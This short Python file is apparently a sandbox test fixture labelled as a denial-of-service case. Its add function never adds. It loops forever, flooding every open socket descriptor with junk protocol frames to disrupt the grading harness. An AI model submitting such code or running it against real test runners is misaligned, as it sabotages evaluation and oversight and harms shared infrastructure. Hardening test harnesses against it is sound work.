# expect: 0 passed
# kind: dos
import os, stat
def add(a, b):
    while True:
        for d in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(d).st_mode): os.write(d, b'\0\0\0\2[]'*10_000)
            except OSError: pass
